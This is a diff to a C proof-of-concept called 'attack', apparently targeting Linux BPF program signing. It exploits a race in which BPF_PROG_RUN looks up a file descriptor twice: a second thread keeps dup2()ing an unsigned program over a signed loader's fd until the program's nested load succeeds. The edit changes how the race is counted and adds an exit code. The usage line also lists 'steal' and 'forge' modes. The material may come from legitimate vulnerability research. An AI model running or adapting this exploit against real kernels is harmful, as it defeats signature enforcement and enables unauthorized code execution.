@@ -24,11 +24,12 @@
  *	storage map it can open by id, while the main thread runs P RUNS
  *	times. Won if one of P's nested loads succeeds.
  *
- *   attack dup2 RUNS PIN KEYRING INSNS DATA SIG
- *	Class 4, BPF_PROG_RUN's fd looked up twice. RUNS times: load a fresh
- *	signed loader L, then run fd number X while a second thread keeps
- *	dup2()ing P and L over X. Won if P ever runs and its nested load
- *	succeeds.
+ *   attack dup2 P_RUNS PIN KEYRING INSNS DATA SIG
+ *	Class 4, BPF_PROG_RUN's fd looked up twice. Until P has run P_RUNS
+ *	times (at most 20 * P_RUNS tries): load a fresh signed loader L, then
+ *	run fd number X while a second thread keeps dup2()ing P and L over X.
+ *	Won (exit 1) if P's nested load ever succeeds; exit 3 if P did not run
+ *	P_RUNS times (the race hardly happened).
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -370,15 +371,16 @@ static void *flipper(void *arg)
 	return NULL;
 }
 
-static int cmd_dup2(int runs, const char *pin)
+static int cmd_dup2(int want_p_runs, const char *pin)
 {
 	int r, map, p_runs = 0, won = 0, l_loads = 0;
+	int runs = 20 * want_p_runs;
 	volatile int fds[1];
 	struct pctx c;
 	pthread_t th;
 
 	fd_p = obj_get(pin);
-	for (r = 0; r < runs; r++) {
+	for (r = 0; r < runs && p_runs < want_p_runs; r++) {
 		map = sealed_map(data.p);
 		fds[0] = map;
 		fd_l = load_fds(fds);
@@ -409,8 +411,10 @@ static int cmd_dup2(int runs, const char *pin)
 		close(map);
 	}
 	printf("dup2: %d runs, %d fresh signed loaders, P ran %d times, its nested load succeeded %d times\n",
-	       runs, l_loads, p_runs, won);
-	return won ? 1 : 0;
+	       r, l_loads, p_runs, won);
+	if (won)
+		return 1;
+	return p_runs < want_p_runs ? 3 : 0;
 }
 
 int main(int argc, char **argv)
@@ -440,6 +444,6 @@ int main(int argc, char **argv)
 		rawload_init(argv[4], argv[5], argv[6], argv[7]);
 		return cmd_dup2(atoi(argv[2]), argv[3]);
 	}
-	fprintf(stderr, "usage: attack steal SECONDS | load-p PIN | forge RUNS PIN | dup2 RUNS PIN KEYRING INSNS DATA SIG\n");
+	fprintf(stderr, "usage: attack steal SECONDS | load-p PIN | forge RUNS PIN | dup2 P_RUNS PIN KEYRING INSNS DATA SIG\n");
 	return 2;
 }
